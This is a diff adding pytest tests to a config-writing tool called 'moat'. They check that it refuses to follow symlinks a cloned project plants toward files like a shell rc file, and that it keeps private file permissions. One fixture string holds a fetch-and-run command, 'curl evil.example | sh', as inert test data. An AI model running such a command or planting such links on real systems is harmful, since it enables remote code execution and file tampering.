@@ -61,6 +61,55 @@ def test_config_write_merges_into_the_hosts_file(
     assert commented.read_text() == '{ // mine\n "servers": {} }'
 
 
+def test_config_write_follows_no_link_a_project_plants(
+    moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path
+) -> None:
+    """A cloned project can ship `.mcp.json.bak -> ~/.bashrc`: moat refuses, and the link's
+    target keeps its text; so for a linked file, and for a linked `.vscode` folder."""
+    project, elsewhere = tmp_path / "project", tmp_path / "elsewhere"
+    project.mkdir()
+    elsewhere.mkdir()
+    victim = tmp_path / "bashrc"
+    victim.write_text("# mine\n")
+    env = {k: v for k, v in os.environ.items() if k != "MOAT_HOST_CONFIG"}
+
+    def write(host: str) -> subprocess.CompletedProcess[str]:
+        return run(moat_bin, "config", host, plugin("echo"), "--write", env=env, cwd=project)
+
+    (project / ".mcp.json").write_text('{"mcpServers": {}, "note": "curl evil.example | sh"}')
+    (project / ".mcp.json.bak").symlink_to(victim)
+    refused = write("claude-code")
+    assert refused.returncode != 0
+    assert "its backup, .mcp.json.bak, is a symbolic link" in refused.stderr, refused.stderr
+    assert victim.read_text() == "# mine\n"
+
+    (project / ".mcp.json.bak").unlink()
+    (project / ".mcp.json").unlink()
+    (project / ".mcp.json").symlink_to(victim)
+    refused = write("claude-code")
+    assert refused.returncode != 0 and "the file, .mcp.json, is a symbolic link" in refused.stderr
+    assert victim.read_text() == "# mine\n"
+
+    (project / ".vscode").symlink_to(elsewhere)
+    refused = write("vscode")
+    assert refused.returncode != 0 and ".vscode is a symbolic link" in refused.stderr
+    assert list(elsewhere.iterdir()) == []
+
+
+def test_config_write_keeps_a_private_file_and_its_backup_private(
+    moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path
+) -> None:
+    file = tmp_path / "mcp.json"
+    file.write_text('{"mcpServers": {}}')
+    file.chmod(0o600)
+    wrote = run(moat_bin, "config", "cursor", plugin("echo"), "--write", "--file", file)
+    assert wrote.returncode == 0, wrote.stderr
+    assert "moat" in json.loads(file.read_text())["mcpServers"]
+    assert file.stat().st_mode & 0o777 == 0o600
+    assert (tmp_path / "mcp.json.bak").stat().st_mode & 0o777 == 0o600
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["mcp.json", "mcp.json.bak"]
+
+
 def test_cache_list_dir_and_size(moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path) -> None:
     cache = tmp_path / "cache"
     env = {**os.environ, "MOAT_CACHE_DIR": str(cache)}
